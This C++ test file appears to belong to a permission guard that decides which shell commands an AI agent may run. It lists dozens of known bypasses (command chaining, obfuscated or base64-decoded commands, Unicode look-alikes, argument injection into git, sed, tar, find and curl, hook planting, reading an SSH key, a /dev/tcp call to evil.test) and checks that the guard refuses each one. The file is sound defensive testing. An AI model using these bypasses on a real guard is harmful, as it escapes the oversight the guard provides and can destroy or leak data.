// Known attacks on what an agent may run, each with its control: a guard that looks at the beginning of the
// text alone, as many do, lets it pass, and bash then does the harm. Refused means: not run without a person
// who is asked. Where a program that the control needs is not installed, the test is skipped once the attack
// is refused: it shows nothing here.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <spawn.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>

#include "guard/rules.h"
#include "support/temp_folder.h"

namespace deputy {
namespace {

using enum Decision;

struct Attack {
  std::string id;                    // as in tests/attacks/cases, where it is one of those
  std::vector<std::string> allowed;  // the beginnings of commands that rules allow; none: all of Bash
  std::vector<std::string> denied;
  std::string command;
  std::string control = "";          // what bash gets to do, where that is not the command itself
  std::string harm = "test -e pwn";  // holds in the folder only once the harm is done
  std::string needs = "";            // holds where the control can be tried

  friend void PrintTo(const Attack& attack, std::ostream* out) { *out << attack.id; }
};

// What a command finds in its folder, which is /out to it: files, and programs that would do the harm.
constexpr std::string_view kFiles = R"sh(
mkdir bin star src .ssh
for file in f a g h v1 src/x; do printf 'one\ntwo\n' >$file; done
echo three >b
echo four >c
echo canary >.ssh/id_ed25519
for program in x.sh pg evil bin/echoes $'bin/t\u043euch' $'bin/\u200btouch'; do
  printf '#!/bin/sh\ntouch "%s/pwn"\n' "$PWD" >$program
done
printf '#!/bin/sh\ntouch "%s/pwn"\nexec cat\n' "$PWD" >c.sh
chmod +x ./*.sh pg evil bin/*
printf 'all:\n\t@true\n' >Makefile
for file in f --checkpoint=1 '--checkpoint-action=exec=touch pwn'; do : >"star/$file"; done
)sh";

// What takes longer to make, for those that name it.
constexpr std::pair<std::string_view, std::string_view> kMore[] = {
    {" big", "printf '%s\n' {1..100000} >big"},
    {"git ", R"sh(
git init -q .
for number in 1 2 3; do
  echo "one b $number" >v1
  git add v1
  git commit -qm $number
done
)sh"},
    {"/ws/r", "git init -q r"},
    {"submodule", R"sh(
git init -q r
echo one >r/v1
git -C r add v1
git -C r commit -qm 1
git -c protocol.file.allow=always submodule --quiet add "$PWD/r" sub
)sh"},
    {"merge other", R"sh(
git checkout -q -b other HEAD~1
echo two >v1
git commit -qam other
git checkout -q -
)sh"},
};

std::vector<char*> pointers_to(const std::vector<std::string>& texts) {
  std::vector<char*> pointers;
  for (const std::string& text : texts) pointers.push_back(const_cast<char*>(text.c_str()));
  pointers.push_back(nullptr);
  return pointers;
}

// A folder as above, and bash in it, without a guard.
class Unguarded {
 public:
  explicit Unguarded(const Attack& attack) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    auto* name = reinterpret_cast<sockaddr*>(&address);
    const bool listens = bind(listener_, name, size) == 0 && listen(listener_, 8) == 0 &&
                         getsockname(listener_, name, &size) == 0;
    EXPECT_TRUE(listens);
    port_ = ntohs(address.sin_port);
    std::string script(kFiles);
    for (const auto& [named, more] : kMore) {
      if (attack.command.contains(named) || attack.control.contains(named)) script += more;
      if (!script.ends_with('\n')) script += '\n';
    }
    run(script);
  }
  ~Unguarded() { close(listener_); }
  Unguarded(const Unguarded&) = delete;

  // Whether it ends well. What it prints is then in the file `said`.
  bool run(std::string command) const {
    for (const std::string_view root : {"/out/", "/ws/"}) {
      for (std::size_t at = 0; (at = command.find(root, at)) != std::string::npos;)
        command.replace(at, root.size() - 1, folder_);
    }
    const std::string script =
        fmt::format("cd '{0}' || exit\nexec </dev/null >>said 2>/dev/null\n{1}", folder_, command);
    const std::vector<std::string> variables{"HOME=" + folder_,
                                             fmt::format("PORT={}", port_),
                                             fmt::format("PATH={}/bin:/usr/local/bin:/usr/bin:/bin", folder_),
                                             "GIT_CONFIG_NOSYSTEM=1",
                                             "GIT_AUTHOR_NAME=x",
                                             "GIT_AUTHOR_EMAIL=x",
                                             "GIT_COMMITTER_NAME=x",
                                             "GIT_COMMITTER_EMAIL=x",
                                             "LC_ALL=C.UTF-8",
                                             "TERM=xterm"};
    const std::vector<std::string> words{"timeout", "60", "bash", "-c", script};
    pid_t child = 0;
    if (posix_spawnp(&child, "timeout", nullptr, nullptr, pointers_to(words).data(),
                     pointers_to(variables).data()) != 0) {
      return false;
    }
    int status = 0;
    waitpid(child, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 0;
  }

 private:
  TempFolder temp_;
  const std::string& folder_ = temp_.path();
  int listener_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  int port_ = 0;
};

std::vector<Rule> rules_of(Decision decision, const std::vector<std::string>& beginnings) {
  std::vector<Rule> rules;
  for (const std::string& beginning : beginnings)
    rules.push_back(parse_rule(decision, fmt::format("Bash({}:*)", beginning)).value());
  return rules;
}

// What a guard does that compares the beginning of the text with the words of rules.
bool passes_by_its_beginning(const Attack& attack) {
  const auto begins_with = [&](const std::string& words) { return attack.command.starts_with(words); };
  return (attack.allowed.empty() || std::ranges::any_of(attack.allowed, begins_with)) &&
         std::ranges::none_of(attack.denied, begins_with);
}

class CommandAttack : public testing::TestWithParam<Attack> {};

TEST_P(CommandAttack, IsNotRunUnasked) {
  const Attack& attack = GetParam();
  const Roots roots{"/ws", "/home/me"};
  std::vector<Rule> rules = rules_of(allow, attack.allowed);
  if (rules.empty()) {
    rules.push_back(parse_rule(allow, "Bash").value());
  } else {
    EXPECT_NE(Rules(rules).judge_command(attack.command, ask, roots).decision, allow);
  }
  for (const Rule& denied : rules_of(deny, attack.denied)) rules.push_back(denied);
  const Decision decision = Rules(rules).judge_command(attack.command, ask, roots).decision;
  EXPECT_NE(decision, allow);
  if (attack.allowed.empty()) EXPECT_EQ(decision, deny);

  EXPECT_TRUE(passes_by_its_beginning(attack)) << "the control does not fire: any guard would refuse it";
  const Unguarded bash(attack);
  if (!attack.needs.empty() && !bash.run(attack.needs)) GTEST_SKIP() << "no control here: " << attack.needs;
  EXPECT_FALSE(bash.run(attack.harm)) << "the control shows nothing: so it was before";
  bash.run(attack.control.empty() ? attack.command : attack.control);
  EXPECT_TRUE(bash.run(attack.harm)) << "the control does not fire: unguarded it does no harm either";
}

constexpr auto kNameOf = [](const auto& info) {
  std::string name = info.param.id;
  std::ranges::replace(name, '-', '_');
  return name;
};

Attack on_allow(std::string id, std::string command, Attack more = {}) {
  more.id = std::move(id);
  more.command = std::move(command);
  more.allowed = {"echo", "ls", "cat", "grep"};
  more.denied = {"touch", "curl"};
  return more;
}

INSTANTIATE_TEST_SUITE_P(
    RidesOnAnAllowed, CommandAttack,
    testing::Values(
        on_allow("shell-01", "echo hi && touch /out/pwn"), on_allow("shell-04", "echo hi & touch /out/pwn"),
        on_allow("shell-05", "echo hi\ntouch /out/pwn"), on_allow("shell-08", "echo `touch /out/pwn`"),
        on_allow("shell-09", "echo ${z:-`touch /out/pwn`}"), on_allow("shell-10", "cat <(touch /out/pwn)"),
        on_allow("shell-11", "echo x > /out/pwn"),
        on_allow("shell-22", "echo " + std::string(10'000, 'A') + "; touch /out/pwn"),
        on_allow("shell-24", "cat \"$HOME/.ssh/id_ed25519\"", {.harm = "grep -q canary said"}),
        on_allow("shell-semicolon", "echo hi; touch /out/pwn"),
        on_allow("shell-or", "ls x || touch /out/pwn"), on_allow("shell-pipe", "echo touch /out/pwn | sh"),
        on_allow("shell-append", "echo x >> ~/.bashrc", {.harm = "test -e .bashrc"}),
        on_allow("shell-substitution", "echo $(touch /out/pwn)"), on_allow("shell-fd", "echo x 3>/out/pwn"),
        on_allow("shell-heredoc", "cat << E > /out/pwn\nx\nE"), on_allow("shell-prefix", "echoes /out/pwn"),
        on_allow("shell-tcp", "cat < /dev/tcp/evil.test/80",
                 {.control = ": < /dev/tcp/127.0.0.1/$PORT && touch pwn"}),
        on_allow("shell-continued", "echo hi &\\\n& touch /out/pwn")),
    kNameOf);

Attack on_deny(std::string id, std::string command, Attack more = {}) {
  more.id = std::move(id);
  more.command = std::move(command);
  if (more.denied.empty()) more.denied = {"touch", "curl"};
  return more;
}

std::string after_many(std::string command) {
  std::string many;
  for (int count = 0; count < 60; ++count) many += "true; ";
  return many + command;
}

INSTANTIATE_TEST_SUITE_P(
    GoesRoundADeny, CommandAttack,
    testing::Values(
        on_deny("shell-13", "'to''uch' /out/pwn"), on_deny("shell-15", "c=touch; $c /out/pwn"),
        on_deny("shell-16", "IFS=,;c='touch,/out/pwn';$c"),
        on_deny("shell-18", "printf -v 'a[$(touch /out/pwn)]' 1"),
        on_deny("shell-20", "setsid timeout 9 nice touch /out/pwn"),
        on_deny("shell-21", after_many("touch /out/pwn")),
        on_deny("shell-26", "trap 'touch /out/pwn' EXIT; echo"),
        on_deny("shell-27", "base64 -d <<< dG91Y2ggcHdu | sh"),
        on_deny("shell-path", "/usr/bin/touch /out/pwn"), on_deny("shell-escape", "\\touch /out/pwn"),
        on_deny("shell-glob", "/usr/bin/t?uch /out/pwn"), on_deny("shell-brace", "{touch,/out/pwn}"),
        on_deny("shell-ansi", "$'\\x74ouch' /out/pwn"), on_deny("shell-eval", "eval 'tou''ch /out/pwn'"),
        on_deny("shell-env", "env A=1 touch /out/pwn"), on_deny("shell-xargs", "echo /out/pwn | xargs touch"),
        on_deny("shell-busybox", "busybox touch /out/pwn", {.needs = "command -v busybox"}),
        on_deny("shell-timeit", "python3 -m timeit -n 1 -s 'import os' 'os.system(\"touch /out/pwn\")'",
                {.needs = "command -v python3"}),
        on_deny("shell-function", "f() { touch /out/pwn; }; f"),
        on_deny("shell-subshell", "(touch /out/pwn)"),
        on_deny("shell-decoded", "echo dG91Y2ggcHdu | base64 -d | bash"),
        on_deny("shell-confusable", "t\u043euch /out/pwn"), on_deny("shell-hidden", "\u200btouch /out/pwn")),
    kNameOf);

// What such a program is told to run is a word of it, or stands within one.
Attack carrying_rm(std::string id, std::string command, Attack more = {}) {
  more.denied = {"rm"};
  if (more.needs.empty()) more.needs = "command -v " + command.substr(0, command.find(' '));
  if (more.control.empty() && more.harm == Attack{}.harm) more.harm = "! test -e v1";
  return on_deny(std::move(id), std::move(command), std::move(more));
}

INSTANTIATE_TEST_SUITE_P(
    CarriesADenied, CommandAttack,
    testing::Values(
        carrying_rm("jobs", "jobs -x rm v1"), carrying_rm("git-grep", "git grep -Orm one"),
        carrying_rm("git-grep-elsewhere", "git -C . grep -Orm one"),
        carrying_rm("git-grep-behind-a-value", "git --shallow-file status grep -Orm one"),
        carrying_rm("git-difftool", "git difftool -y -x rm HEAD~1"),
        carrying_rm("git-difftool-long", "git difftool -y --extcmd=rm HEAD~1"),
        carrying_rm("sdiff", "sdiff --diff-program=rm a b", {.control = "sdiff --diff-program=./x.sh a b"}),
        carrying_rm("diff3", "diff3 --diff-program=rm a b c",
                    {.control = "diff3 --diff-program=./x.sh a b c"}),
        carrying_rm("diff3-short", "diff3 --diff-p rm a b c", {.control = "diff3 --diff-p ./x.sh a b c"}),
        carrying_rm("install", "install -s --strip-program=rm a z",
                    {.control = "install -s --strip-program=./x.sh a z"}),
        carrying_rm("ag", "ag --pager=rm one", {.control = "ag --pager=./x.sh one"}),
        carrying_rm("git-submodule", "git submodule foreach rm v1", {.harm = "! test -e sub/v1"}),
        carrying_rm("git-submodule-text", "git submodule foreach 'r''m v1'", {.harm = "! test -e sub/v1"}),
        carrying_rm("git-submodule-quiet", "git -C . submodule --quiet foreach rm v1",
                    {.harm = "! test -e sub/v1"}),
        carrying_rm("git-rebase", "git rebase -x 'rm v1' HEAD~1"),
        carrying_rm("git-bisect", "git bisect run rm v1",
                    {.control = "git bisect start HEAD HEAD~2; git bisect run ./x.sh"}),
        carrying_rm(
            "git-filter-branch", "git filter-branch --tree-filter 'rm v1'",
            {.control =
                 "FILTER_BRANCH_SQUELCH_WARNING=1 git filter-branch --tree-filter /out/x.sh HEAD~1.."}),
        carrying_rm("git-merge-index", "git merge-index rm -a",
                    {.control = "git merge other; git merge-index ./x.sh -a"}),
        carrying_rm("tar-letters", "tar cIf 'rm -rf src' /dev/null g", {.harm = "! test -e src"}),
        carrying_rm("vimdiff", "vimdiff -es -c '!rm -rf src' -c qa!", {.harm = "! test -e src"}),
        carrying_rm("git-alias", "git config --global alias.zz '!rm -rf src' && git zz",
                    {.harm = "! test -e src"}),
        carrying_rm("npm-exec", "npm exec -c 'rm -rf src'", {.harm = "! test -e src"}),
        carrying_rm("npx", "npx -c 'rm -rf src'", {.harm = "! test -e src"})),
    kNameOf);

Attack removing(std::string id, std::string command, std::string needs = "true") {
  return carrying_rm(std::move(id), std::move(command), {.harm = "! test -e src", .needs = std::move(needs)});
}

// What is run is a pattern, what is found, or what is read.
INSTANTIATE_TEST_SUITE_P(
    BecomesADenied, CommandAttack,
    testing::Values(
        removing("pattern-nice", "nice /bin/r[m] -rf src"), removing("pattern-env", "env /bin/r[m] -rf src"),
        removing("pattern-timeout", "timeout 5 /bin/r[m] -rf src"),
        removing("pattern-nohup", "nohup /bin/r[m] -rf src"),
        removing("pattern-command", "command /bin/r[m] -rf src"),
        removing("found", "find /usr/bin/ -name '[r]m' -exec {} -rf src ';'"),
        removing("pattern-awk",
                 "echo > A=1; echo > 'BEGIN{system(\"rm -rf src\")}'; awk -v [AB]* '{print}' f",
                 "command -v awk"),
        removing("xargs-awk", "echo 'BEGIN{system(\"rm -rf src\")}' | xargs -0 -I% awk % f",
                 "command -v awk"),
        removing("xargs-module",
                 "echo timeit | xargs -I% python3 -m % -n 1 -s 'import os' 'os.system(\"rm -rf src\")'",
                 "command -v python3"),
        removing("found-module",
                 "mkdir timeit; find timeit -exec python3 -I -m {} -n 1 -s 'import os' "
                 "'os.system(\"rm -rf src\")' ';'",
                 "command -v python3"),
        on_deny("xargs-flag", "echo -rf src | xargs rm", {.denied = {"rm -rf"}, .harm = "! test -e src"}),
        on_deny("xargs-flag-in-place", "echo -rf | xargs -I{} rm {} src",
                {.denied = {"rm -rf"}, .harm = "! test -e src"}),
        removing("xargs-short-option", "echo 'rm -rf src' > x; echo x | xargs --re=% sh %"),
        removing("xargs-env", "echo rm -rf src | xargs env"),
        removing("xargs-nice", "echo rm -rf src | xargs nice"),
        removing("xargs-timeout", "echo rm -rf src | xargs timeout 5"),
        removing("fed-linux64", "echo 'rm -rf src' | linux64", "linux64 true"),
        removing("fed-setarch", "echo 'rm -rf src' | setarch x86_64", "setarch x86_64 true"),
        removing("fed-fakeroot", "echo 'rm -rf src' | fakeroot", "fakeroot true"),
        removing("fed-sqlite", "echo '.shell rm -rf src' | sqlite3 a.db", "command -v sqlite3"),
        removing("fed-ed", "echo '!rm -rf src' | ed f", "command -v ed"),
        removing("stream-slashes", "echo 'rm -rf src' | bash //dev/stdin"),
        removing("stream-dot", "echo 'rm -rf src' | bash /./dev/stdin"),
        removing("written-before", "echo 'rm -rf src' > x; sh x"),
        removing("written-in-place", "sed -i '1s/.*/rm -rf src/' f; sh f"),
        removing("written-in-place-by-pattern", "sed -i 's/@true/rm -rf src/' Make*; make",
                 "command -v make"),
        removing("written-where-found", "find . -name '[g]' -exec sed -i '1s/.*/rm -rf src/' {} +; sh g"),
        removing("kept-beside", "echo 'rm -rf src' > y; sed -i.sh p y; sh y.sh"),
        removing("kept-by-a-copy", "echo 'rm -rf src' > y; cp -b f y; sh y~"),
        removing("written-by-tee-by-pattern", "echo 'rm -rf src' | tee [f]; sh f"),
        removing("copied-by-pattern", "printf 'all:\\n\\trm -rf src\\n' > y; cp y Make*; make",
                 "command -v make"),
        removing("run-with-options", "echo 'rm -rf src' > x; bash -ex x"),
        removing("found-with-options", "echo 'rm -rf src' > x; find . -name x -exec sh -x {} ';'"),
        removing("replaced-with-options", "echo 'rm -rf src' > x; echo x | xargs -I% sh -x %"),
        removing("written-by-tee", "echo 'rm -rf src' | tee x; sh x"),
        removing("written-behind-nice", "echo 'rm -rf src' | nice tee x; sh x"),
        removing("written-by-sort", "echo 'rm -rf src' | sort -ox; sh x"),
        removing("written-by-find", "find g -fprintf x 'rm -rf src'; sh x"),
        removing("written-by-split", "echo 'rm -rf src' | split - x; sh xaa"),
        removing("by-a-variable", "env GIT_EXTERNAL_DIFF='rm -rf src' git diff HEAD~1", "command -v git"),
        removing("behind-a-letter", "script -qc'rm -rf src' /dev/null", "command -v script"),
        removing("behind-a-value", "echo 'system(qw(rm -rf src))' > x; perl -I lib x", "command -v perl"),
        removing("link-to-it", "ln -s /bin/rm r && ./r -rf src"),
        removing("copy-of-it", "cp /bin/rm r && ./r -rf src")),
    kNameOf);

Attack argument(std::string id, std::string allowed, std::string command, Attack more = {}) {
  more.id = std::move(id);
  if (more.needs.empty()) more.needs = "command -v " + command.substr(0, command.find(' '));
  more.allowed = {std::move(allowed)};
  more.command = std::move(command);
  return more;
}

INSTANTIATE_TEST_SUITE_P(
    MakesAnAllowedProgramRunOrWrite, CommandAttack,
    testing::Values(
        argument("arginj-02", "find", "find . -fprintf /out/pwn x"),
        argument("arginj-exec", "find", "find . -exec touch /out/pwn \\;"),
        argument("arginj-04", "sed", "sed '1e touch /out/pwn' f"),
        argument("arginj-05", "sed", "sed 'w /out/pwn' f"),
        argument("arginj-sed-brackets", "sed", "sed 's/[/1]/;s/e;#/x/' f",
                 {.control = "echo 'touch pwn1' >f; sed 's/[/1]/;s/e;#/x/' f"}),
        argument("arginj-sed-class", "sed", "sed 's/[[:digit:]/]/;s/e;#/x/' f",
                 {.control = "echo 'touch pwn1' >f; sed 's/[[:digit:]/]/;s/e;#/x/' f"}),
        argument("arginj-sed-in-place", "sed", "sed -i.pwn p f", {.harm = "test -e f.pwn"}),
        argument("arginj-awk-print", "awk", "awk 'NR>1{print > \"/out/pwn\"}' f"),
        argument("arginj-06", "awk", "awk 'BEGIN{system(\"touch /out/pwn\")}'"),
        argument("arginj-07", "sort", "sort --compress-program=./c.sh -S 100K big"),
        argument("arginj-output", "sort", "sort -o /out/pwn f"),
        argument("arginj-09", "tar",
                 "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='touch /out/pwn' f"),
        argument("arginj-10", "git diff", "git diff --output=/out/pwn HEAD~1"),
        argument("arginj-11", "git", "git -c core.fsmonitor='touch /out/pwn' status"),
        argument("arginj-12", "git grep", "git grep --open-files-in-pager=./pg b"),
        argument("arginj-13", "git ls-remote", "git ls-remote --upload-pack='touch /out/pwn;' file:///ws/r"),
        argument("arginj-alias", "git", "git -c alias.x='!touch /out/pwn' x"),
        argument("arginj-rebase", "git", "git rebase --exec 'touch /out/pwn' HEAD~1"),
        argument("arginj-short", "git grep", "git grep --open-f=./pg b"),
        argument("arginj-rsync", "rsync", "rsync -e 'touch /out/pwn' host:a b"),
        argument("arginj-make", "make", "make SHELL=./evil"),
        argument("arginj-vim", "vim", "vim -es f -c '!touch /out/pwn' -c qa!"),
        argument("arginj-less", "less", "less '+!touch /out/pwn' f",
                 {.control = "printf '\\nqq' | script -qec \"less '+!touch /out/pwn' f\" /dev/null",
                  .needs = "command -v less && command -v script"}),
        argument("arginj-python", "python3", "python3 -c 'open(\"/out/pwn\", \"w\")'"),
        argument("arginj-timeit", "python3 -m timeit", "python3 -m timeit -n 1 'open(\"/out/pwn\", \"w\")'"),
        argument("arginj-timeit-at-once", "python3 -mtimeit",
                 "python3 -mtimeit 'open(\"/out/pwn\", \"w\"); exit()'"),
        argument("arginj-timeit-behind", "python3 -m cProfile",
                 "python3 -m cProfile -m timeit -n 1 'open(\"/out/pwn\", \"w\")'"),
        argument("arginj-fed", "python3 -u", "python3 -u < x.py",
                 {.control = "echo 'open(\"pwn\", \"w\")' >x.py; python3 -u < x.py",
                  .needs = "command -v python3"}),
        argument("arginj-cmake", "cmake", "cmake -E touch /out/pwn"),
        argument("arginj-perl", "perl", "perl -e 'open(F, \">\", \"/out/pwn\")'"),
        argument("arginj-node", "node", "node -e 'require(\"fs\").writeFileSync(\"/out/pwn\", \"\")'"),
        argument("arginj-curl", "curl", "curl -o /out/pwn file:///out/f"),
        argument("arginj-curl-format", "curl", "curl -w '%output{/out/pwn}x' file:///out/f",
                 {.needs = "curl --version | grep -qE '^curl (8[.]([3-9]|[1-9][0-9])|9|[1-9][0-9])'"}),
        argument("arginj-curl-expand", "curl",
                 "curl --variable o=/out/pwn --expand-output '{{o}}' file:///out/f",
                 {.needs = "curl --version | grep -qE '^curl (8[.]([3-9]|[1-9][0-9])|9|[1-9][0-9])'"}),
        argument("arginj-xargs-sed", "xargs sed -n p", "xargs sed -n p",
                 {.control = "echo --expression=1e./x.sh f | xargs sed -n p"}),
        argument("arginj-linker", "clang", "clang --ld-path=/out/x.sh m.c",
                 {.control = "echo 'int main(void) {}' >m.c; clang --ld-path=/out/x.sh m.c",
                  .needs = "clang --version"}),
        argument("arginj-rg", "rg", "rg --pre=./x.sh b f"),
        argument("arginj-star", "tar", "tar cf a.tar *",
                 {.control = "cd star && tar cf a.tar *", .harm = "test -e star/pwn"}),
        argument("arginj-tar", "tar", "tar cIf 'touch /out/pwn' /dev/null f"),
        argument("arginj-uniq", "uniq", "uniq f /out/pwn"),
        argument("arginj-shuf", "shuf", "shuf -o /out/pwn f"),
        argument("arginj-iconv", "iconv", "iconv -o /out/pwn f"),
        argument("arginj-xxd", "xxd", "xxd f /out/pwn"),
        argument("sandbox-11", "cp", "cp h .git/hooks/pre-commit",
                 {.control = "mkdir -p .git/hooks && cp h .git/hooks/pre-commit",
                  .harm = "test -e .git/hooks/pre-commit"}),
        argument("sandbox-11-dd", "dd", "dd if=h of=.git/config",
                 {.control = "mkdir -p .git && dd if=h of=.git/config", .harm = "grep -qx two .git/config"}),
        argument("sandbox-11-mv", "mv", "mv .git .git2",
                 {.control = "mkdir -p .git && mv .git .git2", .harm = "test -e .git2"}),
        argument("sandbox-10", "unshare", "unshare -Urm sh -c 'mount -t tmpfs x /out/src && touch /out/pwn'",
                 {.needs = "unshare -Urm mount -t tmpfs x src"})),
    kNameOf);

}  // namespace
}  // namespace deputy
